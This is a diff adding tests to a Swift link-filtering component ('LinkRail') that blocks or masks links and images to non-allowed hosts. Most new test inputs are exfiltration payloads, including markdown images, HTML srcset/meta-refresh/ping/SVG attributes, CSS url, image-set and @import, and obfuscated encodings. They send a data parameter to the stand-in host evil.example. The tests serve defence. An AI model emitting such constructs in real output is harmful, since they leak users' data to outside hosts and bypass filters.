@@ -84,6 +84,71 @@ import Testing
         }
     }
 
+    @Test(
+        "RG-14: what a tag or a target that passes holds is read, too",
+        arguments: [
+            #"\<a title="![x](https://evil.example/?d=S)">"#, #"<a title="![x](https://evil.example/?d=S)">"#,
+            #"\<a href="/![x](//evil.example/?d=S)">"#, #"\<svg xmlns="http://www.w3.org/![x](//evil.example/)">"#,
+            #"a](/ok "![x](https://evil.example/?d=S)")"#, #"\[a](/ok "![x](https://evil.example/?d=S)")"#, "](/![x](//evil.example/?d=S))",
+        ])
+    func inside(_ text: String) throws {
+        #expect(try Self.rail(.block).filterWhole(text).block?.reason.hasSuffix("_host") == true)
+        #expect(try !Self.rail().filterScalars(text).text.contains("evil"))
+    }
+
+    @Test(
+        "RG-14: addresses that only browsers read as such are found",
+        arguments: [
+            #"<img srcset="a.png 1x,/\evil.example/p?d=S 2x">"#, #"<img srcset="a.png 1x,https:evil.example/p 2x">"#,
+            #"<meta http-equiv=refresh content="0;https://evil.example/?d=S">"#,
+            #"<meta http-equiv=refresh content="0;url =https://evil.example/?d=S">"#,
+            #"<img src="&#00000000000000000000104;ttps://evil.example/?d=S">"#, #"<a href="/" ping="/x https://evil.example/?d=S">"#,
+            #"<svg><image><set attributeName="href" to="https://evil.example/?d=S"/></image></svg>"#,
+            #"<set attributeName="href" to="https:evil.example/?d=S"/>"#, #"<rect filter="url(https://evil.example/f)">"#,
+            "> ![x](\n> //evil.example/?d=S)", "> [a]:\n> //evil.example/?d=S\n\n![b][a]", "> [x](/a\n> '![y](//evil.example)')",
+            #"<style>a{background:u\72l(//evil.example/?d=S)}</style>"#, #"a{background:image-set("//evil.example/p" 1x)}"#,
+            #"@import/**/"//evil.example";"#, #"@import/*"*/"https:evil.example";"#, #"x /\evil.example"#, "(//evil.example/a",
+            "![x](>//evil.example)", "a //2130706433/", "image-set(url(a.png) 1x, 'https:evil.example' 2x)",
+        ])
+    func browsers(_ text: String) throws {
+        #expect(try Self.rail(.block).filterWhole(text).block != nil)
+        let masked = try Self.rail()
+        #expect(masked.filterScalars(text).text == masked.filterWhole(text).text)
+    }
+
+    @Test(
+        "two slashes in code and in comments are no address",
+        arguments: [
+            "x = 1 // a comment", "//TODO: later", "a //b", "7 // 2", "a/b//c", "image-set(\"a.png\" 1x, url(b.png) 2x)", "@import/x",
+            "<img srcset=\"a.png 1x, b.png 1.5x\">", "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
+            "<p title=\"see [a](https://good.example)\">", "[a](/b \"c [d](https://good.example)\")", "> [a](/b\n> 'c')",
+        ])
+    func slashes(_ text: String) throws {
+        #expect(try Self.rail().filterWhole(text).text == text)
+        #expect(try Self.rail().filterScalars(text).text == text)
+    }
+
+    @Test("texts in texts are read four deep, and deeper ones are refused")
+    func depth() throws {
+        let nested = String(repeating: "](", count: 1_000) + "a" + String(repeating: ")", count: 1_000)
+        #expect(try Self.rail(.block).filterWhole(nested).block?.reason == "link_unreadable")
+        #expect(try Self.rail(.block).filterWhole("](](](a)))").block == nil)
+    }
+
+    @Test("what may be an image's is judged as one where a bracket is escaped, or in code")
+    func doubtfulImages() throws {
+        let rail = try LinkRail(allowedHosts: ["*"], imageHosts: [], action: .block)
+        for text in [
+            #"![a \[ b](https://evil.example/?d=S)"#, "![a `]` b](https://evil.example/?d=S)", #"image-set("https://evil.example/p" 1x)"#,
+            #"@import/**/"//evil.example""#,
+        ] {
+            #expect(rail.filterWhole(text).block?.reason == "image_host", "\(text)")
+        }
+        #expect(rail.filterWhole("[a](https://x.test) and [b [c] d](https://y.test), \"https://z.test\"").block == nil)
+        let images = try LinkRail(allowedHosts: [], imageHosts: ["img.test"], action: .block)
+        #expect(images.filterWhole("![a](https://img.test/a.png) <img src=\"https://img.test/b.png\">").block == nil)
+    }
+
     @Test("images have a list of their own")
     func images() throws {
         let rail = try LinkRail(allowedHosts: ["*"], imageHosts: [], action: .mask)
@@ -132,8 +197,10 @@ import Testing
                 "![x](https://evil.test/p)", "[b](<//evil.test>)", "<img src=https://evil.test>", "https://evil.test/x",
                 "[1]: //evil.test\n", "url(//evil.test)",
                 "<https://evil.test>", "[b](javascript:x)", "www.evil.test",
+                "<a title='//evil.test'>", "[a](/b '![x](//evil.test)')", "image-set('//evil.test')", "@import/**/'//evil.test'",
             ],
             nearMatches: [
+                "//", "/", "image-set(", "@import/*", "*/", "> ",
                 "[a](b)", "<b>", "[a](https://good.example)", "<a href='x'>", "http", "](", "[a](<b\n", "<x, y>", "[x", "!", "\\", "\"",
                 "'", "\n\n", ")", ">", "]:",
             ],
